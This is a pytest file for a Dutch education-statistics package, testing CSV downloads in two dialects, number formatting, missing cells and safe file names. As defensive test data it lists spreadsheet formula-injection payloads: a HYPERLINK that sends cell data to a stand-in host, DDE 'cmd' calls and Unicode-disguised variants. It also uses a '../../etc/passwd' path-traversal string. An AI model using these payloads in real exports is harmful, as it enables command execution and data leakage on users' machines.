"""Downloads: two CSV dialects, formulas made harmless, numbers and codes left as they are."""

import io
from collections.abc import Mapping

import pandas as pd
import pyarrow as pa
import pytest

from vsv_metrics.delivery import origin
from vsv_metrics.export.csv import Dialect, to_csv
from vsv_metrics.export.table import download_table, file_stem
from vsv_metrics.indicators.figures import figures
from vsv_metrics.store import Store
from vsv_metrics.text import locale

DIALECTS: tuple[Dialect, ...] = ("nl", "int")
FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
)
HARMLESS = ("Zuid-Holland", "'s-Gravenhage", "RMC29", "a=b", "2022/23", "<b>x</b>", 'zeg "ja"; of, nee', "regel 1\nregel 2", "")


def frame(columns: Mapping[str, object]) -> pa.Table:
    return pa.Table.from_pandas(pd.DataFrame(columns), preserve_index=False)


def read(content: bytes, dialect: Dialect) -> pd.DataFrame:
    dutch = dialect == "nl"
    return pd.read_csv(
        io.BytesIO(content),
        sep=";" if dutch else ",",
        decimal="," if dutch else ".",
        encoding="utf-8-sig" if dutch else "utf-8",
        dtype={"code": "str", "region_code": "str"},
        keep_default_na=False,
    )


def test_the_dutch_dialect_is_what_dutch_excel_opens() -> None:
    content = to_csv(frame({"naam": ["Súdwest-Fryslân"], "n": [1234567.0], "pct": [2.25]}), "nl")
    assert content == "\ufeffnaam;n;pct\r\nSúdwest-Fryslân;1234567;2,25\r\n".encode()


def test_the_international_dialect_has_points_and_no_mark() -> None:
    content = to_csv(frame({"name": ["Súdwest-Fryslân"], "n": [1234567.0], "pct": [2.25]}), "int")
    assert content == "name,n,pct\r\nSúdwest-Fryslân,1234567,2.25\r\n".encode()


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_would_run_as_a_formula_starts_with_an_apostrophe(text: str, dialect: Dialect) -> None:
    cell = str(read(to_csv(frame({"code": [text]}), dialect), dialect)["code"].iat[0])
    assert cell.startswith("'")
    assert cell[1:].replace("\r", "\n") == text.replace("\r", "\n")


@pytest.mark.parametrize("dialect", DIALECTS)
def test_other_texts_are_left_alone(dialect: Dialect) -> None:
    table = frame({"code": list(HARMLESS), "n": range(len(HARMLESS))})
    assert read(to_csv(table, dialect), dialect)["code"].tolist() == list(HARMLESS)


@pytest.mark.parametrize("dialect", DIALECTS)
def test_numbers_are_never_touched(dialect: Dialect) -> None:
    values = [-2.5, 0.0, 1e9, 0.1 + 0.2, 2.285714]
    cells = read(to_csv(frame({"x": values}), dialect), dialect)["x"].tolist()
    assert cells == pytest.approx(values, abs=5e-7)
    assert b"'" not in to_csv(frame({"x": values}), dialect)


@pytest.mark.parametrize(
    ("value", "written"),
    [(1234567.0, "1234567"), (-0.0, "0"), (0.1 + 0.2, "0.3"), (2.2857142857, "2.285714"), (123_456_789.0, "123456789")],
)
def test_how_a_number_is_written(value: float, written: str) -> None:
    assert to_csv(frame({"x": [value]}), "int") == f"x\r\n{written}\r\n".encode()


@pytest.mark.parametrize("dialect", DIALECTS)
def test_what_is_missing_is_an_empty_cell(dialect: Dialect) -> None:
    table = frame(
        {
            "code": ["a", "b"],
            "n": pd.array([1, None], dtype="Int64"),
            "x": [None, 0.5],
            "text": pd.array([None, "b"], dtype="str"),
        }
    )
    empty = read(to_csv(table, dialect), dialect).map(lambda cell: cell == "")
    assert empty.to_numpy().tolist() == [[False, False, True, True], [False, True, False, False]]


def test_yes_and_no_are_words_in_both_dialects() -> None:
    assert {to_csv(frame({"b": [True, False]}), dialect).decode("utf-8-sig") for dialect in DIALECTS} == {
        "b\r\ntrue\r\nfalse\r\n"
    }


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("language", ["nl", "en"])
def test_a_download_holds_exactly_the_figures(store: Store, dialect: Dialect, language: str) -> None:
    frame = figures(store, "published", levels=["province"], periods=(2019, 2023))
    table = download_table(frame, origin(store, "/tabellen?niveau=province"), locale(language))
    cells = read(to_csv(table, dialect), dialect)
    assert len(cells) == len(frame) > 0
    assert list(cells.columns) == table.column_names
    for column in ("region_code", "series_id", "obs_status", "source_id"):
        assert cells[column].tolist() == frame[column].tolist()
    for column in ("numerator", "denominator", "rate_pct"):
        assert pd.to_numeric(cells[column]).tolist() == pytest.approx(frame[column].tolist(), abs=1e-6)
    assert set(cells["data_fingerprint"]) == {store.fingerprint}
    assert set(cells["query"]) == {"/tabellen?niveau=province"}
    assert (cells["source_title"] != "").all()
    assert cells["period"].iat[0] == "2019/20"


def test_fictional_figures_say_so_on_every_row_and_in_the_file_name(store: Store) -> None:
    table = download_table(figures(store, "demo", regions=["RMC29"]), origin(store, "/tabellen"), locale("nl"))
    assert set(table["dataset_note"].to_pylist()) == {"VOORBEELD: fictieve cijfers"}
    assert file_stem("demo", "tabel", "new_leavers") == "vsv-voorbeeld-tabel-new_leavers"


@pytest.mark.parametrize(
    ("parts", "stem"),
    [
        (("tabel", "PV28", "2019-2023"), "vsv-tabel-pv28-2019-2023"),
        (("../../etc/passwd",), "vsv-------etc-passwd"),
        (("Súdwest",), "vsv-s-dwest"),
    ],
)
def test_a_file_name_holds_plain_characters_only(parts: tuple[str, ...], stem: str) -> None:
    assert file_stem("published", *parts) == stem
